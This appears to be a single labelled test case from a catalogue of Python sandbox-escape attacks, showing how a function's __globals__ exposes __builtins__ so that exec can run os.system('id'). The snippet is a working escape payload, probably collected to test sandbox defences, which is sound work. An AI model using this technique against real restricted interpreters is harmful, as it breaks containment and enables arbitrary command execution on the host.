# attack-class: 5
# title: user function __globals__ dict
# why: any def's __globals__ gives __builtins__

def helper():
    return 1

bi = helper.__globals__["__builtins__"]
(bi.exec if hasattr(bi, "exec") else bi["exec"])("import os; os.system('id')")
